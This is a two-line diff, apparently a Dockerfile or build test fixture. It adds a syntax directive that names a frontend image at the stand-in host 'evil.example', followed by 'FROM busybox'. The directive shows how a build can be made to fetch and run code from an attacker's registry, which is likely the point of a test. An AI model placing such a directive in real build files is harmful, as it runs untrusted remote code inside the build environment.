@@ -1,0 +1,2 @@
+// syntax=evil.example/frontend:1
+FROM busybox
